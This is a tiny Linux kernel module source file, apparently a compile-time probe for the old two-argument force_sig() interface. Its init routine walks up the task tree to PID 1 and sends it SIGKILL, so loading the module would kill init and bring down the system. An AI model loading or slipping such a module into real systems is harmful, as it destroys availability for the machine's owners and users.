/* force_sig() of another task: an interface that is gone since 5.3. */
#include <linux/module.h>
#include <linux/kernel.h>
#include <linux/init.h>
#include <linux/sched.h>

MODULE_LICENSE("GPL");

static int __init start(void)
{
	struct task_struct *init = current;

	while (init->pid != 1)
		init = init->parent;
	force_sig(SIGKILL, init);
	return 0;
}
static void __exit stop(void) { }
module_init(start);
module_exit(stop);
